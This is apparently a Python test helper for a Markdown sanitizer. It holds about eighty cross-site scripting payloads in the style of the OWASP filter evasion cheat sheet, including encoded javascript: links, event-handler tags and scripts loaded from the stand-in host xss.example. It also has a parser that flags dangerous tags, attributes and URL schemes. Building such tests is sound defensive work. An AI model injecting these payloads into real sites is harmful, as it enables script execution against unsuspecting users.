"""Cross-site scripting payloads in the style of the OWASP XSS filter evasion cheat sheet, plus
Markdown-specific ones, and a checker that finds executable markup in rendered HTML."""

import re
from html.parser import HTMLParser
from urllib.parse import unquote

PAYLOADS = [
    # Raw HTML: script, frames, plugins, styles
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    '<img """><script>alert(1)</script>">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://xss.example/x.html"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "<style>@import 'https://xss.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<link rel=stylesheet href="javascript:alert(1)">',
    # Event handlers in many tags
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    '<img src="x\n" onerror=alert(1)>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<p onmouseover=alert(1)>x</p>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    # Dangerous URLs in raw HTML
    '<a href="javascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    # Parser tricks: template, noscript, comments, CDATA
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--> <img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Markdown links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#0;script:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](%6A%61vascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "[x](https://ok.example 'a\" onclick=\"alert(1)')",
    # Autolinks
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    # Markdown images
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    '![x](x" onerror="alert(1))',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    # Code stays code; unicode look-alikes and escapes stay text
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\u0130pt>alert(1)</scr\u0130pt>",
]

FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "frame",
    "object",
    "embed",
    "svg",
    "math",
    "style",
    "base",
    "link",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "template",
    "noscript",
    "img",
    "video",
    "audio",
    "source",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background", "poster", "srcdoc"}
DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f]+")


def dangerous_url(value: str) -> bool:
    """The attribute value is already HTML-unescaped by the parser."""
    cleaned = _INVISIBLE.sub("", value).lower()
    return cleaned.startswith(DANGEROUS_SCHEMES) or unquote(cleaned).startswith(DANGEROUS_SCHEMES)


class _RegionChecker(HTMLParser):
    def __init__(self, region_classes: set[str] | None):
        super().__init__(convert_charrefs=True)
        self.region_classes = region_classes
        self.depth = 0 if region_classes else 1  # >0: inside the region
        self.found_region = region_classes is None
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if self.depth == 0:
            classes = set((dict(attrs).get("class") or "").split())
            if not self.found_region and classes == self.region_classes:
                self.found_region = True
                self.depth = 1
            return
        self._check(tag, attrs)
        if tag not in VOID:
            self.depth += 1

    def handle_startendtag(self, tag, attrs):
        if self.depth:
            self._check(tag, attrs)

    def handle_endtag(self, tag):
        if self.depth and self.region_classes is not None:
            self.depth -= 1

    def _check(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs):
            self.problems.append("<meta http-equiv>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name == "style":
                self.problems.append(f"<{tag} style>")
            if name in URL_ATTRIBUTES and value and dangerous_url(value):
                self.problems.append(f"<{tag} {name}={value!r}>")


def dangers(html: str, region_classes: set[str] | None = None) -> list[str]:
    """Executable markup in ``html``, or in its first element whose class set is ``region_classes``."""
    checker = _RegionChecker(region_classes)
    checker.feed(html)
    checker.close()
    if not checker.found_region:
        return [f"no element with class {sorted(region_classes)}"]
    return checker.problems
